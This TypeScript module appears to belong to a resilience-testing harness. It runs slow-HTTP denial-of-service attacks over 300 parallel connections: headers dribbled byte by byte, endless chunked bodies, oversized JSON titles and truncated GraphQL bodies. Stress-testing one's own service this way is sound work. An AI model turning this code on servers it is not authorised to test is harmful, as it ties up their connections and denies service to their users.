import { setTimeout as delay } from 'node:timers/promises'
import { openSocket, readHeads, repeatOnLanes, type Target, toPost } from './attack-target.ts'

const lanes = 300
const heldMs = 5_000
const piece = Buffer.alloc(64 * 1024, 0x20)

/** Headers sent byte by byte, bodies that are far too long, and endless bodies. */
export async function sendSlowlyOrEndlessly(target: Target): Promise<void> {
  const ways = [sendHeadersSlowly, sendHeadersSlowly, sendEndlessBody, sendLongBody, stopInBody]
  await repeatOnLanes(target, lanes, async (lane, turn) => {
    const socket = openSocket(target)
    readHeads(target, socket)
    const endsAtMs = performance.now() + heldMs
    const isOpen = () => !socket.destroyed && target.remainingMs() > 0 && performance.now() < endsAtMs
    await ways[(lane + turn) % ways.length]?.(target, socket, isOpen)
    while (isOpen()) await delay(100)
    socket.resetAndDestroy()
    await delay(20)
  })
}

type Way = (target: Target, socket: ReturnType<typeof openSocket>, isOpen: () => boolean) => Promise<void>

const sendHeadersSlowly: Way = async ({ host }, socket, isOpen) => {
  socket.write(`GET /readyz HTTP/1.1\r\nHost: ${host}\r\nX-Slow: `)
  while (isOpen()) {
    socket.write('x')
    await delay(500)
  }
}

const sendEndlessBody: Way = async ({ host }, socket, isOpen) => {
  socket.write(`POST /api/v1/todos HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\n`)
  socket.write('Transfer-Encoding: chunked\r\n\r\n')
  while (isOpen()) {
    if (!socket.writableNeedDrain) {
      socket.write(`${piece.length.toString(16)}\r\n`)
      socket.write(piece)
      socket.write('\r\n')
    }
    await delay(10)
  }
}

const sendLongBody: Way = async (target, socket) => {
  socket.write(toPost(target, '/api/v1/todos', JSON.stringify({ title: 'x'.repeat(1_000_000) })))
}

const stopInBody: Way = async ({ host }, socket) => {
  socket.write(`POST /graphql HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\n`)
  socket.write(`Content-Length: 262144\r\n\r\n${'{'.repeat(200_000)}`)
}
